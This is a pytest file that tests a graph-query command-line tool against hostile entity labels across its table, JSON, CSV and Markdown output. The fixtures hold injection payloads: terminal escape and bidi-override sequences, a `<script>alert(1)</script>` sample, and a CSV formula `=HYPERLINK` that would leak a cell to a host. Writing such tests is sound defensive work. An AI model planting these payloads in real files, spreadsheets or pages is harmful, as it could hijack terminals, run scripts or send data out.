"""Hostile labels through every command.

Nothing is obeyed, no cell is a formula, no mark breaks out, no line is too wide."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import Result

Run = Callable[..., Result]
BOARD = (
    "Hate \x1b[31mCrime\x1b[0m \x9b2J\u202eBoard\u2066 <script>alert(1)</script> | `rm` *x* [a](b) &lt;"
    + "W" * 300
)
COUNCIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"Street Team")'
LABELS = {
    "Hate Crime Board": BOARD,
    "Street Team": COUNCIL,
    "Safer Anytown Annual Update 2024": "@Update \x1b]0;title\x07 |",
}
COMMANDS = [
    "owner hate crime", "owner property marking", "trace hate crime", "trace property marking",
    "find hate crime board", "find street team",
    "show hate crime board", "show street team", "sources list", "sources show hate crime board",
    "owner hcpb zzz",
]  # fmt: skip
TURNING = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


@pytest.fixture(scope="module")
def hostile(tiny_graph: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The tiny world with hostile names; it is found by its names as they were."""
    folder = tmp_path_factory.mktemp("hostile") / "store"
    store = ox.Store(str(folder))
    store.extend(
        ox.Quad(quad.subject, quad.predicate, ox.Literal(LABELS[quad.object.value]), quad.graph_name)
        if isinstance(quad.object, ox.Literal) and quad.object.value in LABELS
        else quad
        for quad in ox.parse(path=tiny_graph)
    )
    store.flush()
    return str(folder)


def obeyed(text: str) -> set[str]:
    """The characters of an output that a terminal obeys, but for the ends of lines."""
    return {
        character
        for character in text.replace("\r\n", "\n")
        if (unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp") and character != "\n")
        or unicodedata.bidirectional(character) in TURNING
    }


def formulas(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would reckon out."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(("=", "@", "+", "-"))
    ]


def marks(text: str) -> set[str]:
    """The signs of Markdown that are not escaped, but for the bars of a table, its rule and the heading of a
    thread."""
    lines = [
        re.sub(r"^\|( --- \|)+$|^#+ |`goldthread sources add FILE`", "", line) for line in text.splitlines()
    ]
    return set(re.findall(r"[`*_{}\[\]<>#~]|&\w+;", re.sub(r"\\[!-/:-@\[-`{-~]", "", "\n".join(lines))))


@pytest.mark.parametrize("style", ["table", "json", "csv", "md"])
@pytest.mark.parametrize("command", COMMANDS)
def test_nothing_hostile_is_obeyed(command: str, style: str, run: Run, hostile: str) -> None:
    ended = run(*command.split(), "--format", style, "--store", hostile)
    assert obeyed(ended.stdout_bytes.decode() + ended.stderr) == set()
    assert ended.stdout or ended.stderr
    if style == "csv":
        assert formulas(ended.stdout) == []
    if style == "md":
        assert marks(ended.stdout) == set()


@pytest.mark.parametrize("columns", ["60", "80", "200"])
@pytest.mark.parametrize("command", COMMANDS)
def test_no_line_is_wider_than_the_terminal(
    command: str, columns: str, run: Run, hostile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", columns)
    lines = run(*command.split(), "--store", hostile).stdout.splitlines()
    assert [line for line in lines if len(line) > int(columns)] == []


def test_a_label_is_whole_in_json(run: Run, hostile: str) -> None:
    reply = json.loads(run("show", "hate crime board", "--format", "json", "--store", hostile).stdout)
    assert reply["title"] == BOARD
    assert BOARD in {answer["object"]["label"] for answer in reply["answers"] if answer["object"]}


def test_rows_of_markdown_have_as_many_cells_as_their_heading(run: Run, hostile: str) -> None:
    for line in run("show", "hate crime board", "--format", "md", "--store", hostile).stdout.splitlines():
        assert len(re.findall(r"(?<!\\)\|", line)) in (0, 3, 5)


def test_a_nearest_name_is_only_shown(run: Run, hostile: str) -> None:
    ended = run("owner", "hate crime zzz board", "--store", hostile)
    assert (ended.exit_code, ended.stderr.count("\n")) == (2, 1)
    assert "Hate \ufffd[31mCrime\ufffd[0m" in ended.stderr and obeyed(ended.stderr) == set()


def test_the_page_of_a_picture_holds_no_script_of_a_label(run: Run, hostile: str, tmp_path: Path) -> None:
    assert run("picture", "hate crime board", "-o", tmp_path / "page.html", "--store", hostile).exit_code == 0
    assert "<script>alert" not in (tmp_path / "page.html").read_text("utf-8")


def test_what_is_hostile_is_seen() -> None:
    assert obeyed(BOARD) == {"\x1b", "\x9b", "\u202e", "\u2066"}
    assert formulas(f'a,"{COUNCIL.replace(chr(34), chr(34) * 2)}"\r\n') == [COUNCIL]
    assert marks(BOARD) == {"<", ">", "`", "*", "[", "]", "&lt;"}
